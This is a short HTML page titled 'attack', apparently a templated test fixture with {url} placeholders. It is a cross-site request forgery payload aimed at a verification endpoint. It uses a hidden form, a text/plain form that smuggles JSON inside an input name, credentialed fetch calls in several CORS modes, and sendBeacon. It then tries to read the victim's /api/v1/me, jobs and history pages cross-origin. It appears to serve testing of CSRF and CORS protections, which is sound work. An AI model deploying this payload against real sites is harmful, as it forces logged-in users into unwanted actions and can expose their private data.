<!doctype html><title>attack</title>
<form id=f method=post action="{url}/verify/example"><input name=example value=article></form>
<form id=t method=post enctype="text/plain" action="{url}/api/v1/verify">
<input name='{{"example":"article","x":"' value='"}}'></form>
<script>
async function go() {{
  const there = "{url}/api/v1/verify", body = '{{"example":"article"}}';
  const json = {{"Content-Type": "application/json"}};
  const kinds = [{{mode: "no-cors"}}, {{headers: json}}, {{mode: "no-cors", headers: json}}];
  for (const options of kinds)
    try {{ await fetch(there, {{method: "POST", body, credentials: "include", ...options}}) }}
    catch (error) {{}}
  navigator.sendBeacon(there, new Blob([body], {{type: "text/plain"}}));
  let read = "";
  for (const path of ["/api/v1/jobs", "/api/v1/me", "/history"])
    try {{ read += await (await fetch("{url}" + path, {{credentials: "include"}})).text() }}
    catch (error) {{}}
  return read;
}}
</script>